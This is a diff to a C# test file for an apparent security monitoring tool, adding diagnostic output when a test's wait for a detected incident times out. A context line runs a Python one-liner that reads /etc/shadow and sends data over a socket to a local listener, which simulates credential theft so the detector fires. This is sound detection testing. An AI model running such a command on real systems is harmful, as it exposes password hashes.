@@ -92,7 +92,12 @@ public sealed class StoreQueryCommandTests
         Children.Run(collector, "-c", "import socket, sys; data = open('/etc/shadow', 'rb').read(); socket.create_connection(('127.0.0.1', int(sys.argv[1]))).sendall(str(len(data)).encode())",
             ((IPEndPoint)drop.LocalEndpoint).Port.ToString(System.Globalization.CultureInfo.InvariantCulture), marker);
         string incidentLine = Eventually(() => Query("incidents", "--store", file.Path, "-o", "json").Split('\n')
-            .FirstOrDefault(l => l.Contains(marker, StringComparison.Ordinal) && l.Contains("credential read then call out", StringComparison.Ordinal)));
+            .FirstOrDefault(l => l.Contains(marker, StringComparison.Ordinal) && l.Contains("credential read then call out", StringComparison.Ordinal)),
+            () => string.Join('\n', [
+                "events of collector:", Query("events", "--store", file.Path, "--proc", "collector", "-o", "table"),
+                "detections:", Query("detections", "--store", file.Path, "-o", "table"),
+                "incidents:", Query("incidents", "--store", file.Path, "-o", "table"),
+                "agent's output:", .. agent.Stdout.TakeLast(40)]));
         string incidentId = JsonDocument.Parse(incidentLine).RootElement.GetProperty("vigil.incident.id").GetString()!;
         agent.WaitForLine(l => l.Contains($"## INCIDENT {incidentId}", StringComparison.Ordinal)
             && l.Contains("root cause: credential read then call out: credential read (Read sensitive file untrusted)", StringComparison.Ordinal), TimeSpan.FromSeconds(5));
@@ -179,7 +184,8 @@ public sealed class StoreQueryCommandTests
         return stdout;
     }
 
-    private static string Eventually(Func<string?> attempt)
+    /// <param name="seen">Says, when the wait runs out, what the store and the agent had instead.</param>
+    private static string Eventually(Func<string?> attempt, Func<string>? seen = null)
     {
         DateTime deadline = DateTime.UtcNow.AddSeconds(15);
         while (true)
@@ -188,7 +194,7 @@ public sealed class StoreQueryCommandTests
             {
                 return found;
             }
-            Assert.True(DateTime.UtcNow < deadline, "the store never had what the query looked for");
+            Assert.True(DateTime.UtcNow < deadline, "the store never had what the query looked for" + (seen is null ? "" : $"; it had:\n{seen()}"));
             Thread.Sleep(200);
         }
     }
